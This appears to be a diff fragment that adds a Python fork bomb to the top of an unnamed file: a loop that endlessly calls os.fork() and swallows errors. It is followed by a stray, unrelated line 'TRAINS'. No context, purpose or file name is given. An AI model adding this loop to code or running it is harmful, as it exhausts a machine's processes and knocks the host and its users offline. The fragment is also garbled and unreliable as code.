@@ -1,0 +1,7 @@
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
+
+TRAINS
